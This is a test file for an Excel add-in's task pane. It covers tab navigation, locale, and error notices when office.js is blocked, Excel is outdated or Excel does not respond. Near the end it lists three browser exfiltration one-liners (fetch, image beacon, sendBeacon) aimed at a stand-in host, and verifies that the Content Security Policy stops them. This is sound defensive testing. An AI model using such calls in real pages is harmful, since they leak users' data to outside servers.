/** The page of the add-in as it is built: what comes on it when Excel answers, and what when it does not. */
import { describe, expect, it } from "@jest/globals";
import { awaitStatus, button, press } from "./onPane";
import { sampleBook } from "./sampleBook";
import { withPane } from "./withPane";

const workbook = sampleBook;

describe("the page in Excel", () => {
  it.each([
    ["check", "点検", "点検する"],
    ["highlight", "色分け", "変わるところを見る"],
    ["summary", "集計表", /^集計表を作る/u],
    ["settings", "設定", "設定を保存する"],
  ] as const)("opens the screen that the ribbon asks for: %s", async (start, tab, does) => {
    await withPane({ workbook, start }, async ({ pane }) => {
      await button(pane.getByRole("tabpanel", { name: tab }), does).waitFor();
      const chosen = pane.getByRole("tab", { selected: true });
      expect(await chosen.textContent()).toBe(tab);
    });
  });

  it("speaks English where Excel does", async () => {
    await withPane({ workbook, locale: "en-US" }, async ({ pane }) => {
      await press(pane, "Check");
      await awaitStatus(pane, /^Check finished/u);
      expect(await pane.locator("html").getAttribute("lang")).toBe("en");
      expect(await pane.locator("#screens").innerText()).not.toMatch(/点検|指摘/u);
    });
  });
});

describe("without an Excel that it can work in", () => {
  it("says so where the network lets no office.js through", async () => {
    const expected = /ERR_FAILED/u;
    await withPane({ workbook, isOfficeBlocked: true, expected }, async ({ pane }) => {
      const notice = pane.getByRole("alert");
      await notice.filter({ hasText: "必要なファイルを読み込めませんでした" }).waitFor();
      expect(await notice.textContent()).toContain("appsforoffice.microsoft.com");
    });
  });

  it("says so where Excel is too old, and what is needed", async () => {
    await withPane({ workbook, excelApi: "1.12" }, async ({ pane }) => {
      const notice = pane.getByRole("alert").filter({ hasText: "このExcelでは使えません" });
      await notice.waitFor();
      expect(await notice.textContent()).toContain("ExcelApi 1.13");
    });
  });

  it("says so when Excel does not answer for ten seconds, and opens when it answers after all", async () => {
    await withPane(
      { workbook, holdsAnswers: true, prepare: (page) => page.clock.install() },
      async ({ page, pane, answer }) => {
        await pane.getByText("読み込んでいます… Loading…").waitFor();
        await page.clock.fastForward(10_000);
        await pane.getByRole("alert").filter({ hasText: "Excelから応答がありません" }).waitFor();
        answer();
        await button(pane, "点検する").waitFor();
        expect(await pane.getByRole("alert").allTextContents()).toEqual([""]);
      },
    );
  });
});

/** Ways in which a page could send something, as it would write them. */
const leaks = {
  "a request": "void fetch('https://elsewhere.test/plan')",
  "a picture": "void (new Image().src = 'https://elsewhere.test/plan.png')",
  "a beacon": "void navigator.sendBeacon('https://elsewhere.test/', 'plan')",
};

describe("the page's own policy", () => {
  it.each(Object.entries(leaks))("stops %s that would leave the computer", async (_what, leak) => {
    const leaking = withPane({ workbook }, async ({ pane, page }) => {
      await button(pane, "点検する").waitFor();
      const told = page.waitForEvent("console");
      await pane.evaluate(leak);
      await told;
    });
    await expect(leaking).rejects.toThrow(/Content Security Policy/u);
  });
});
